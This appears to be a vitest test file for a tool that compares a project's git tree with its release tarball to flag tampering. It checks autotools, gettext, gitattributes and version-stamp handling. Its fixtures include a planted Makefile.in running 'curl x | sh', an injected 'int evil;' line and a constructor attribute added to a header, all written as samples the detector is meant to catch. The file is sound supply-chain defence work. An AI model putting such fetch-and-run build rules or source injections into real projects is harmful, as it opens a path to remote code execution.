import { describe, it, expect } from "vitest";
import { runScenario, explained, findingsOf } from "./helpers.js";

const base = { "configure.ac": "AC_INIT([p],[1])\nAC_CONFIG_HEADERS([lib/conf.h])\n", "Makefile.am": "", "src/a.c": "int a;\n" };

describe("gitattributes profile", () => {
  it("explains export-subst expansions and nothing more", async () => {
    const git = { ...base, ".gitattributes": "src/version.h export-subst\n", "src/version.h": '#define COMMIT "$Format:%H$"\n' };
    const ok = await runScenario({ git, tarball: { ...git, "src/version.h": '#define COMMIT "@@COMMIT@@"\n' } });
    expect(explained(ok, "src/version.h")).toBe("gitattributes");
    expect(ok.changes.find((c) => c.path === "src/version.h")?.explainedBy).toMatchObject({ trust: "verified", verifiedBy: "reproduction" });
    const bad = await runScenario({ git, tarball: { ...git, "src/version.h": '#define COMMIT "0123"\nint evil;\n' } });
    expect(findingsOf(bad, "source-modified")).toEqual(["high src/version.h"]);
    // Any other value than the tag's real commit is not an expansion git archive could have written.
    const forged = await runScenario({ git, tarball: { ...git, "src/version.h": '#define COMMIT "0123456789abcdef0123456789abcdef01234567"\n' } });
    expect(findingsOf(forged, "source-modified")).toEqual(["high src/version.h"]);
  });
  it("explains eol=crlf conversions only when the attribute asks for them", async () => {
    const git = { ...base, ".gitattributes": "*.bat eol=crlf\n", "win/make.bat": "echo a\necho b\n", "win/other.cmd": "echo a\n" };
    const r = await runScenario({ git, tarball: { ...git, "win/make.bat": "echo a\r\necho b\r\n", "win/other.cmd": "echo a\r\n" } });
    expect(explained(r, "win/make.bat")).toBe("gitattributes");
    expect(findingsOf(r, "source-modified")).toEqual(["high win/other.cmd"]);
  });
});

describe("autotools profile", () => {
  it("explains headers named by AC_CONFIG_HEADERS, aclocal.m4 and stamp files", async () => {
    const r = await runScenario({ git: base, tarball: { ...base, "lib/conf.h.in": "#undef X\n", "aclocal.m4": "dnl generated\n", "stamp-h.in": "timestamp\n" } });
    expect(explained(r, "lib/conf.h.in")).toBe("autotools");
    expect(explained(r, "aclocal.m4")).toBe("autotools");
    expect(explained(r, "stamp-h.in")).toBe("autotools");
    for (const p of ["lib/conf.h.in", "aclocal.m4", "stamp-h.in"]) expect(r.changes.find((c) => c.path === p)?.explainedBy?.trust, p).toBe("unverified");
    expect(r.findings.filter((f) => f.severity === "high" || f.severity === "medium")).toEqual([]);
  });
  it("does not explain a Makefile.in in a directory without Makefile.am", async () => {
    const r = await runScenario({ git: base, tarball: { ...base, "evil/Makefile.in": "all:\n\tcurl x | sh\n" } });
    expect(findingsOf(r, "build-script-added")).toEqual(["high evil/Makefile.in"]);
  });
});

describe("gettext profile", () => {
  const po = (date: string, ref: string, msg: string) =>
    `msgid ""\nmsgstr ""\n"POT-Creation-Date: ${date}\\n"\n\n#: ${ref}\nmsgid "Hello"\nmsgstr "${msg}"\n`;
  it("explains .po changes limited to header dates and source references", async () => {
    const git = { ...base, "po/POTFILES.in": "src/a.c\n", "po/de.po": po("2024-01-01", "src/a.c:1", "Hallo") };
    const r = await runScenario({ git, tarball: { ...git, "po/de.po": po("2024-02-02", "src/a.c:7", "Hallo") } });
    expect(explained(r, "po/de.po")).toBe("gettext");
  });
  it("keeps a changed translation as a finding", async () => {
    const git = { ...base, "po/POTFILES.in": "src/a.c\n", "po/de.po": po("2024-01-01", "src/a.c:1", "Hallo") };
    const r = await runScenario({ git, tarball: { ...git, "po/de.po": po("2024-01-01", "src/a.c:1", "Hallo %n%n%n") } });
    expect(explained(r, "po/de.po")).toBeUndefined();
    expect(findingsOf(r, "other-file-changed")).toEqual(["low po/de.po"]);
  });
});

describe("changelog and texinfo profiles", () => {
  it("explains a ChangeLog in git-log format and an info manual built from Texinfo", async () => {
    const git = { ...base, "doc/p.texi": "\\input texinfo\n" };
    const r = await runScenario({
      git,
      tarball: { ...git, ChangeLog: "2024-02-24  Jane Doe  <jane@example.org>\n\n\tFix.\n", "doc/p.info": "This is p.info, produced by makeinfo.\n" },
    });
    expect(explained(r, "ChangeLog")).toBe("changelog");
    expect(explained(r, "doc/p.info")).toBe("texinfo");
  });
  it("does not explain a ChangeLog that is not generated from git", async () => {
    const r = await runScenario({ git: base, tarball: { ...base, ChangeLog: "hand-written notes\n" } });
    expect(explained(r, "ChangeLog")).toBeUndefined();
  });
});

describe("version-stamp profile and rule", () => {
  const git = { "doc/tool.1": '.TH TOOL 1 "2024-01-01" "tool 1.0"\n.SH NAME\ntool\n', "include/ver.h": '#define TOOL_VERSION "1.0-dev"\nint tool(void);\n' };
  it("explains stamp-only changes and reports them as info with the hunks", async () => {
    const r = await runScenario({ git, tarball: { "doc/tool.1": '.TH TOOL 1 "2024-02-24" "tool 1.0"\n.SH NAME\ntool\n', "include/ver.h": '#define TOOL_VERSION "1.0"\nint tool(void);\n' } });
    expect(findingsOf(r, "version-stamp")).toEqual(["info include/ver.h"]);
    // A .TH date stamp of a roff page is verified field by field (manpage-stamp), not matched by shape.
    expect(explained(r, "doc/tool.1")).toBe("manpage-stamp");
  });
  it("keeps a file with any other hunk a finding, showing only that hunk", async () => {
    const lines = Array.from({ length: 20 }, (_, i) => `int f${i}(void);`).join("\n");
    const g = { "include/ver.h": `#define TOOL_VERSION "1.0-dev"\n${lines}\nint tool(void);\n` };
    const r = await runScenario({ git: g, tarball: { "include/ver.h": `#define TOOL_VERSION "1.0"\n${lines}\nint tool(void) __attribute__((constructor));\n` } });
    expect(findingsOf(r, "version-stamp")).toEqual([]);
    const f = r.findings.find((x) => x.rule === "source-modified")!;
    expect(f.message).toContain("1 version/date stamp hunk(s) omitted");
    expect(f.evidence!.diff).toContain("__attribute__((constructor))");
    expect(f.evidence!.diff).not.toContain("TOOL_VERSION");
  });
});
